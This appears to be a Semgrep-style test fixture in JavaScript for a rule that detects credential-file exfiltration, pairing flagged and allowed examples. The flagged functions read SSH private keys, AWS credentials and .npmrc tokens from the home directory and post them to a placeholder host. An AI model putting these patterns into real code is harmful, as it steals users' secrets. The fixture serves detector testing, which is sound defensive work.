const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const axios = require("axios");

const ADDRESS = "https://collect.example.invalid";

function send() {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_ed25519"), "utf8");
  // ruleid: exfiltration/credential-file-to-network-javascript
  return fetch(ADDRESS, { method: "POST", body: key });
}

function sendAtOnce() {
  // ruleid: exfiltration/credential-file-to-network-javascript
  return axios.post(ADDRESS, { text: fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8") });
}

function sendRegistry(request) {
  const settings = fs.readFileSync(`${os.homedir()}/.npmrc`, "utf8");
  // ruleid: exfiltration/credential-file-to-network-javascript
  request.write(JSON.stringify({ settings }));
}

function connect(client) {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_ed25519"));
  // ok: exfiltration/credential-file-to-network-javascript
  client.connect({ host: "reports.example.invalid", privateKey: key });
}

function upload() {
  const report = fs.readFileSync("report.txt", "utf8");
  // ok: exfiltration/credential-file-to-network-javascript
  return fetch(ADDRESS, { method: "POST", body: report });
}

function registry() {
  // ok: exfiltration/credential-file-to-network-javascript
  return fs.readFileSync(`${os.homedir()}/.npmrc`, "utf8").includes("registry");
}

function ask() {
  // ok: exfiltration/credential-file-to-network-javascript
  return axios.post(ADDRESS, { text: fs.readFileSync("question.txt", "utf8") });
}

module.exports = { send, sendAtOnce, sendRegistry, connect, upload, registry, ask };
